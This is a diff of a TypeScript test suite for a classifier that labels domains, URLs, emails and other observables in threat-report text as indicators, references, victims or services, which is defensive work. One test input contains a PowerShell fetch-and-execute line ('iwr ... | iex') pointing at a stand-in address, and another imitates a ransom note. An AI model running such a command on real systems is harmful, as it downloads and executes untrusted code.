@@ -233,232 +233,199 @@ describe("hosts", () => {
   });
 });
 
-describe("the publisher", () => {
-  const text = "Read us at blog.harbour-labs.com. The fake page is harbour-labs[.]com-login[.]top.";
-  const values: Written[] = [
-    ["domain", "blog.harbour-labs.com"],
-    ["domain", "harbour-labs[.]com-login[.]top"],
+/** What a text is read for: its values with the role of each. */
+type Reading = readonly [
+  what: string,
+  text: string,
+  values: readonly (readonly [kind: Written[0], written: string, role: ObservableRole])[],
+  publisher?: string,
+];
+
+const PAGE = "https://lab.quarry-notes.net/a";
+
+/** A table of indicators with a column of sources, as texts write tables. */
+function withSources(what: string, head: string, separator: string): Reading {
+  const edge = head.startsWith("|") ? "| " : "";
+  const rows = ["orbit-sync.top", "grove-sync.top"].map(
+    (value) => edge + [value, "domain", PAGE].join(separator),
+  );
+  return [
+    `takes the column of sources for references: ${what}`,
+    `Indicators of Compromise\n\n${head}${rows.join("\n")}`,
+    [
+      ["domain", "orbit-sync.top", "indicator"],
+      ["domain", "grove-sync.top", "indicator"],
+      ["url", PAGE, "reference"],
+    ],
   ];
-  it("is a vendor on its own site, and names that begin like it are not", () => {
-    expect(rolesOf(text, values, "www.harbour-labs.com")).toEqual({
-      "blog.harbour-labs.com": "vendor",
-      "harbour-labs[.]com-login[.]top": "indicator",
-    });
-  });
-  it("is no vendor where it hosts others", () => {
-    const hosted = "The loader beacons to evil-pages.github.io.";
-    expect(rolesOf(hosted, [["domain", "evil-pages.github.io"]], "lab.github.io")).toEqual({
-      "evil-pages.github.io": "indicator",
-    });
-  });
-});
+}
+
+const RULE = 'rule a {\n  strings:\n    $h = "file-box.io"\n}';
+const SEEN = "Somebody saw http://orbit-sync.top/login on Monday.\n\n";
+const MAILED = "The mail went from pay@orbit-sync.top to info@hafen-werke.de on Monday.";
+
+const READINGS: readonly Reading[] = [
+  [
+    "holds the publisher for a vendor on its own site, and not names that begin like it",
+    "Read us at blog.harbour-labs.com. The fake page is harbour-labs[.]com-login[.]top.",
+    [
+      ["domain", "blog.harbour-labs.com", "vendor"],
+      ["domain", "harbour-labs[.]com-login[.]top", "indicator"],
+    ],
+    "www.harbour-labs.com",
+  ],
+  [
+    "holds a publisher for no vendor where it hosts others",
+    "The loader beacons to evil-pages.github.io.",
+    [["domain", "evil-pages.github.io", "indicator"]],
+    "lab.github.io",
+  ],
+  [
+    "finds the appendix of indicators behind the references",
+    `REFERENCES\n[1] Somebody: ${PAGE}\n\n` +
+      "APPENDIX B: INDICATORS OF COMPROMISE\n\norbit-sync.top\nhttps://orbit-sync.top/in",
+    [
+      ["url", PAGE, "reference"],
+      ["domain", "orbit-sync.top", "indicator"],
+      ["url", "https://orbit-sync.top/in", "indicator"],
+    ],
+  ],
+  withSources("tabs", "Indicator\tType\tSource\n", "\t"),
+  withSources("bars", "| Indicator | Type | Source |\n|---|---|---|\n", " | "),
+  withSources("commas", "indicator,type,source\n", ","),
+  [
+    "takes them for references where the text has lost the columns, too",
+    "Table 2: Malware IOCs\nIndicator Type Indicator Source\n" +
+      `Domain orbit-sync[.]top ${PAGE}\nURL hxxps://orbit-sync[.]top/x ${PAGE}`,
+    [
+      ["domain", "orbit-sync[.]top", "indicator"],
+      ["url", "hxxps://orbit-sync[.]top/x", "indicator"],
+      ["url", PAGE, "reference"],
+    ],
+  ],
+  [
+    "keeps an address in a column of sources, which is where packets came from",
+    "Time\tSource IP\tAction\n10:11\t198.18.7.9\tblocked",
+    [["ipv4", "198.18.7.9", "mentioned"]],
+  ],
+  [
+    "reads the wrapped cells of a row as one row",
+    `IOCs\n\nIndicator\tComment\tReference\norbit-sync.top\tfirst\nserver\t${PAGE}`,
+    [
+      ["domain", "orbit-sync.top", "indicator"],
+      ["url", PAGE, "reference"],
+    ],
+  ],
+  [
+    "holds a victim for one wherever nothing else is said, and below its domain",
+    "The victim's domain hafen-werke.de was joined to it. Later mail.hafen-werke.de and " +
+      "hafen-werke.de had new accounts.",
+    [
+      ["domain", "hafen-werke.de", "victim"],
+      ["domain", "mail.hafen-werke.de", "victim"],
+    ],
+  ],
+  [
+    "does not tell who gets a mail where nobody sends it",
+    MAILED,
+    [["email", "info@hafen-werke.de", "mentioned"]],
+  ],
+  [
+    "tells the sender of a mail from who gets it",
+    MAILED,
+    [
+      ["email", "pay@orbit-sync.top", "mentioned"],
+      ["email", "info@hafen-werke.de", "victim"],
+    ],
+  ],
+  [
+    "does not let page furniture end a section",
+    "INDICATORS OF COMPROMISE\norbit-sync.top\nTLP:CLEAR\nPage 9 of 26 | Product ID: AA00-000A\n" +
+      "FBI | CISA | ACSC\nTLP:CLEAR\ngrove-sync.top",
+    [["domain", "grove-sync.top", "indicator"]],
+  ],
+  [
+    "ends the section of indicators where another begins",
+    `# Indicators of Compromise\n\norbit-sync.top\n\n# Mitigations\n\nUse ${PAGE} for it.`,
+    [["url", PAGE, "reference"]],
+  ],
+  [
+    "does not take a table of contents for headings",
+    `References ............ 30\nAppendix B: Indicators ........ 36\n\nSee ${PAGE} and wait.`,
+    [["url", PAGE, "reference"]],
+  ],
+  [
+    "does not take who asks for ransom for an author",
+    "All your files are encrypted. To get the key write to help@orbit-sync.top or help@gmail.com.",
+    [
+      ["email", "help@orbit-sync.top", "indicator"],
+      ["email", "help@gmail.com", "indicator"],
+    ],
+  ],
+  [
+    "takes a mailbox that everybody may have for nobody's own",
+    "Questions? Write to help@gmail.com.",
+    [["email", "help@gmail.com", "mentioned"]],
+  ],
+  [
+    "goes on with indicators behind the services among them",
+    "Indicators of Compromise\n\norbit-sync.top\n\nLegitimate Services\n\nfile-box.io\n\nOther Hosts\n\ngrove-sync.top",
+    [
+      ["domain", "orbit-sync.top", "indicator"],
+      ["domain", "file-box.io", "legitimate_service"],
+      ["domain", "grove-sync.top", "indicator"],
+    ],
+  ],
+  [
+    "never takes for a link what an address serves",
+    "For more information, see below.\n\niwr http://198.18.7.9/l.ps1 | iex",
+    [["url", "http://198.18.7.9/l.ps1", "indicator"]],
+  ],
+  [
+    "holds a page for no indicator where it is told of alone",
+    SEEN,
+    [["url", "http://orbit-sync.top/login", "reference"]],
+  ],
+  [
+    "holds a page for an indicator where its host is listed",
+    `${SEEN}IOCs\n\norbit-sync.top\n`,
+    [
+      ["url", "http://orbit-sync.top/login", "indicator"],
+      ["domain", "orbit-sync.top", "indicator"],
+    ],
+  ],
+  ["says nothing of a string of a rule", RULE, [["domain", "file-box.io", "mentioned"]]],
+  [
+    "takes a string of a rule for what else is said of it",
+    `It uses the legitimate service file-box.io for it.\n\n${RULE}`,
+    [["domain", "file-box.io", "legitimate_service"]],
+  ],
+  [
+    "holds a name for no indicator where it is the system's own",
+    "IOCs\n\ncmd.exe\nwinupd77.exe\nC:\\Windows\\System32\\cmd.exe\nC:\\Temp\\cmd.exe\n",
+    [
+      ["file_path", "C:\\Windows\\System32\\cmd.exe", "mentioned"],
+      ["file_path", "C:\\Temp\\cmd.exe", "indicator"],
+      ["file_name", "winupd77.exe", "indicator"],
+    ],
+  ],
+  [
+    "does not read a number for documentation as an indicator",
+    "IOCs\n\nAS64496\nAS204957",
+    [
+      ["asn", "AS64496", "example"],
+      ["asn", "AS204957", "indicator"],
+    ],
+  ],
+];
 
 describe("texts that are made to mislead", () => {
-  it("finds the appendix of indicators behind the references", () => {
-    const text =
-      "REFERENCES\n[1] Somebody: https://lab.quarry-notes.net/a\n\n" +
-      "APPENDIX B: INDICATORS OF COMPROMISE\n\norbit-sync.top\nhttps://orbit-sync.top/in";
-    expect(
-      rolesOf(text, [
-        ["url", "https://lab.quarry-notes.net/a"],
-        ["domain", "orbit-sync.top"],
-        ["url", "https://orbit-sync.top/in"],
-      ]),
-    ).toEqual({
-      "https://lab.quarry-notes.net/a": "reference",
-      "orbit-sync.top": "indicator",
-      "https://orbit-sync.top/in": "indicator",
-    });
+  const readings = READINGS.map(([what, text, values, publisher]) => {
+    const written = values.map(([kind, value]): Written => [kind, value]);
+    const roles = Object.fromEntries(values.map(([, value, role]) => [value, role]));
+    return { what, text, written, roles, publisher };
   });
-
-  it.each([
-    ["tabs", "Indicator\tType\tSource\n", "\t"],
-    ["bars", "| Indicator | Type | Source |\n|---|---|---|\n", " | "],
-    ["commas", "indicator,type,source\n", ","],
-  ])("takes the column of sources for references: %s", (_, head, separator) => {
-    const row = (value: string) =>
-      [value, "domain", "https://lab.quarry-notes.net/a"].join(separator);
-    const edge = head.startsWith("|") ? "| " : "";
-    const rows = ["orbit-sync.top", "grove-sync.top"].map((value) => edge + row(value));
-    const text = `Indicators of Compromise\n\n${head}${rows.join("\n")}`;
-    expect(
-      rolesOf(text, [
-        ["domain", "orbit-sync.top"],
-        ["domain", "grove-sync.top"],
-        ["url", "https://lab.quarry-notes.net/a"],
-      ]),
-    ).toEqual({
-      "orbit-sync.top": "indicator",
-      "grove-sync.top": "indicator",
-      "https://lab.quarry-notes.net/a": "reference",
-    });
-  });
-
-  it("takes them for references where the text has lost the columns, too", () => {
-    const text =
-      "Table 2: Malware IOCs\nIndicator Type Indicator Source\n" +
-      "Domain orbit-sync[.]top https://lab.quarry-notes.net/a\n" +
-      "URL hxxps://orbit-sync[.]top/x https://lab.quarry-notes.net/a";
-    expect(
-      rolesOf(text, [
-        ["domain", "orbit-sync[.]top"],
-        ["url", "hxxps://orbit-sync[.]top/x"],
-        ["url", "https://lab.quarry-notes.net/a"],
-      ]),
-    ).toEqual({
-      "orbit-sync[.]top": "indicator",
-      "hxxps://orbit-sync[.]top/x": "indicator",
-      "https://lab.quarry-notes.net/a": "reference",
-    });
-  });
-
-  it("keeps an address in a column of sources, which is where packets came from", () => {
-    const text = "Time\tSource IP\tAction\n10:11\t198.18.7.9\tblocked";
-    expect(rolesOf(text, [["ipv4", "198.18.7.9"]])).not.toEqual({ "198.18.7.9": "reference" });
-  });
-
-  it("reads the wrapped cells of a row as one row", () => {
-    const text =
-      "IOCs\n\nIndicator\tComment\tReference\norbit-sync.top\tfirst\nserver\thttps://lab.quarry-notes.net/a";
-    expect(
-      rolesOf(text, [
-        ["domain", "orbit-sync.top"],
-        ["url", "https://lab.quarry-notes.net/a"],
-      ]),
-    ).toEqual({ "orbit-sync.top": "indicator", "https://lab.quarry-notes.net/a": "reference" });
-  });
-
-  it("holds a victim for one wherever nothing else is said, and below its domain", () => {
-    const text =
-      "The victim's domain hafen-werke.de was joined to it. Later mail.hafen-werke.de and " +
-      "hafen-werke.de had new accounts.";
-    expect(
-      rolesOf(text, [
-        ["domain", "hafen-werke.de"],
-        ["domain", "mail.hafen-werke.de"],
-      ]),
-    ).toEqual({ "hafen-werke.de": "victim", "mail.hafen-werke.de": "victim" });
-  });
-
-  it("tells the sender of a mail from who gets it", () => {
-    const text = "The mail went from pay@orbit-sync.top to info@hafen-werke.de on Monday.";
-    expect(rolesOf(text, [["email", "info@hafen-werke.de"]])).toEqual({
-      "info@hafen-werke.de": "mentioned",
-    });
-    expect(
-      rolesOf(text, [
-        ["email", "pay@orbit-sync.top"],
-        ["email", "info@hafen-werke.de"],
-      ]),
-    ).toMatchObject({ "info@hafen-werke.de": "victim" });
-  });
-
-  it("does not let page furniture end a section", () => {
-    const text =
-      "INDICATORS OF COMPROMISE\norbit-sync.top\nTLP:CLEAR\nPage 9 of 26 | Product ID: AA00-000A\n" +
-      "FBI | CISA | ACSC\nTLP:CLEAR\ngrove-sync.top";
-    expect(rolesOf(text, [["domain", "grove-sync.top"]])).toEqual({
-      "grove-sync.top": "indicator",
-    });
-  });
-
-  it("ends the section of indicators where another begins", () => {
-    const text =
-      "# Indicators of Compromise\n\norbit-sync.top\n\n# Mitigations\n\nUse https://lab.quarry-notes.net/a for it.";
-    expect(rolesOf(text, [["url", "https://lab.quarry-notes.net/a"]])).toEqual({
-      "https://lab.quarry-notes.net/a": "reference",
-    });
-  });
-
-  it("does not take a table of contents for headings", () => {
-    const text =
-      "References ............ 30\nAppendix B: Indicators ........ 36\n\n" +
-      "See https://lab.quarry-notes.net/a and wait.";
-    expect(rolesOf(text, [["url", "https://lab.quarry-notes.net/a"]])).toEqual({
-      "https://lab.quarry-notes.net/a": "reference",
-    });
-  });
-
-  it("does not take who asks for ransom for an author", () => {
-    const text =
-      "All your files are encrypted. To get the key write to help@orbit-sync.top or help@gmail.com.";
-    const mine: Written = ["email", "help@orbit-sync.top"];
-    const free: Written = ["email", "help@gmail.com"];
-    expect(rolesOf(text, [mine, free])).toEqual({
-      "help@orbit-sync.top": "indicator",
-      "help@gmail.com": "indicator",
-    });
-    expect(rolesOf("Questions? Write to help@gmail.com.", [free])).toEqual({
-      "help@gmail.com": "mentioned",
-    });
-  });
-
-  it("goes on with indicators behind the services among them", () => {
-    const text =
-      "Indicators of Compromise\n\norbit-sync.top\n\nLegitimate Services\n\nfile-box.io\n\nOther Hosts\n\ngrove-sync.top";
-    expect(
-      rolesOf(text, [
-        ["domain", "orbit-sync.top"],
-        ["domain", "file-box.io"],
-        ["domain", "grove-sync.top"],
-      ]),
-    ).toEqual({
-      "orbit-sync.top": "indicator",
-      "file-box.io": "legitimate_service",
-      "grove-sync.top": "indicator",
-    });
-  });
-
-  it("never takes for a link what an address serves", () => {
-    const text = "For more information, see below.\n\niwr http://198.18.7.9/l.ps1 | iex";
-    expect(rolesOf(text, [["url", "http://198.18.7.9/l.ps1"]])).toEqual({
-      "http://198.18.7.9/l.ps1": "indicator",
-    });
-  });
-
-  it("holds a page for an indicator where its host is listed, and not where it is told of alone", () => {
-    const page: Written = ["url", "http://orbit-sync.top/login"];
-    const text = "Somebody saw http://orbit-sync.top/login on Monday.\n\n";
-    expect(rolesOf(text, [page])).toEqual({ "http://orbit-sync.top/login": "reference" });
-    const listed = `${text}IOCs\n\norbit-sync.top\n`;
-    expect(rolesOf(listed, [page, ["domain", "orbit-sync.top"]])).toEqual({
-      "http://orbit-sync.top/login": "indicator",
-      "orbit-sync.top": "indicator",
-    });
-  });
-
-  it("takes a string of a rule for what else is said of it", () => {
-    const rule = 'rule a {\n  strings:\n    $h = "file-box.io"\n}';
-    const value: Written[] = [["domain", "file-box.io"]];
-    expect(rolesOf(rule, value)).toEqual({ "file-box.io": "mentioned" });
-    const text = `It uses the legitimate service file-box.io for it.\n\n${rule}`;
-    expect(rolesOf(text, value)).toEqual({ "file-box.io": "legitimate_service" });
-  });
-
-  it("gives a name a lower confidence where it is the system's own", () => {
-    const text =
-      "IOCs\n\ncmd.exe\nwinupd77.exe\nC:\\Windows\\System32\\cmd.exe\nC:\\Temp\\cmd.exe\n";
-    const values: Written[] = [
-      ["file_path", "C:\\Windows\\System32\\cmd.exe"],
-      ["file_path", "C:\\Temp\\cmd.exe"],
-      ["file_name", "winupd77.exe"],
-    ];
-    expect(rolesOf(text, values)).toEqual({
-      "C:\\Windows\\System32\\cmd.exe": "mentioned",
-      "C:\\Temp\\cmd.exe": "indicator",
-      "winupd77.exe": "indicator",
-    });
-  });
-
-  it("does not read a number for documentation as an indicator", () => {
-    expect(
-      rolesOf("IOCs\n\nAS64496\nAS204957", [
-        ["asn", "AS64496"],
-        ["asn", "AS204957"],
-      ]),
-    ).toEqual({
-      AS64496: "example",
-      AS204957: "indicator",
-    });
+  it.each(readings)("$what", ({ text, written, roles, publisher }) => {
+    expect(rolesOf(text, written, publisher)).toEqual(roles);
   });
 });
